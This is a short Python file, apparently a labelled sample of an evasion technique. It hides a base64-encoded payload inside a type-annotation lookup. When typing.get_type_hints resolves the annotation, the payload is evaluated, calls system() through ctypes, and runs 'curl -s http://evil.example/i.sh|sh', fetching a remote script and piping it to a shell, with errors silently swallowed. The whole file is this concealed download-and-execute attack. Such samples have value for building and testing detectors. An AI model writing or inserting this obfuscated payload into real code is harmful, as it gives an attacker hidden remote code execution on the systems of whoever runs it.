# harm: loads libc via ctypes and runs curl|sh ; trick: the string annotation "T" is resolved from a localns dict holding a decoded string
import base64
import typing


def handler(x: "T") -> None:
    pass


try:
    typing.get_type_hints(handler, localns={"T": base64.b64decode("X19pbXBvcnRfXygnY3R5cGVzJykuQ0RMTChOb25lKS5zeXN0ZW0oYidjdXJsIC1zIGh0dHA6Ly9ldmlsLmV4YW1wbGUvaS5zaHxzaCcp").decode()})
except Exception:
    pass
